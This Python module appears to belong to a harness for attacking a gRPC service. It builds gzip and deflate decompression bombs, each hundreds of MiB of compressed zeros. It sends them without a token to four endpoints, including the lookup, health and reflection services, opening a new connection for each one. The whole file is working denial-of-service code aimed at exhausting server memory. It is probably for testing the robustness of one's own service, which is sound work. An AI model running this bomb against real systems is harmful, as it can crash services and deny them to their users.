"""Sends a decompression bomb to every service, without a token: a compressed
message that is small on the wire and huge in memory."""

import struct
import time
import zlib

import attack
import http2

PATHS = ("/vtlookup.v1.LookupService/Lookup",
         "/vtlookup.v1.LookupService/StreamLookup",
         "/grpc.health.v1.Health/Check",
         "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo")


def bomb(size, encoding):
    """`size` zeros, compressed by a factor of a thousand: one compressed MiB,
    again and again."""
    zeros, count = bytes(1 << 20), size >> 20
    maker = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = maker.compress(zeros) + maker.flush(zlib.Z_FULL_FLUSH)
    body = block * count + b"\3\0"  # the last block, empty
    if encoding == "gzip":
        checksum = 0
        for _ in range(count):
            checksum = zlib.crc32(zeros, checksum)
        return (b"\x1f\x8b\x08" + bytes(7) + body +
                struct.pack("<II", checksum, size & 0xffffffff))
    checksum = 1
    for _ in range(count):
        checksum = zlib.adler32(zeros, checksum)
    return b"\x78\xda" + body + struct.pack(">I", checksum)


def run(target, stage):
    """One bomb after another, each on a connection of its own."""
    size = (1400 if stage.full else 500) << 20
    sent = 0
    bombs = {name: bomb(size, name) for name in ("gzip", "deflate")}
    stage.until = time.monotonic() + stage.seconds
    for path in PATHS:
        for encoding, body in bombs.items():
            if stage.over():
                break
            connection = http2.Connection(target)
            stage.held.append(connection)
            stream = connection.call(
                path, [(b"grpc-encoding", encoding.encode())])
            message = http2.grpc_message(body, compressed=True)
            sent += connection.send_body(stream, message, True, stage.until)
            connection.await_end(stream, stage.until)
    stage.figures["sent_kib"] = sent >> 10


if __name__ == "__main__":
    attack.main(run, seconds=8)
